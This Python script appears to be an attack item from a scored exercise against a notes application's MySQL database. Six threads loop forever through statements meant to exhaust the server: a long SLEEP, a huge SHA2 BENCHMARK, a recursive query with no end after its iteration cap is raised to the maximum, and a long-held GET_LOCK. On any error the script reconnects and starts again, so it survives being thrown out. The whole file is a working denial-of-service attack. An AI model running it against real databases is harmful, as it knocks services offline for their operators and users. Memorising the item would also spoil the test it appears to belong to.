"""Keeps the server busy by statements without an end, and comes back as soon as it is thrown out.

Earns: 4
"""

import threading
import time

import pymysql
from notes import app, connect

print("TRIED", flush=True)
ENDLESS = (
    "SELECT SLEEP(100000)",
    "SELECT BENCHMARK(1000000000000, SHA2('x', 512))",
    "SET SESSION max_recursive_iterations = 4294967295",
    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT COUNT(*) FROM r",
    "SELECT GET_LOCK('for ever', 100000)",
)


def again_and_again():
    """Run them in turn, whatever happens."""
    while True:
        for statement in ENDLESS:
            try:
                with connect() as connection, connection.cursor() as cursor:
                    cursor.execute("SET SESSION max_recursive_iterations = 4294967295")
                    cursor.execute(statement)
            except (pymysql.MySQLError, OSError):
                time.sleep(0.001)


for _ in range(6):
    threading.Thread(target=again_and_again, daemon=True).start()
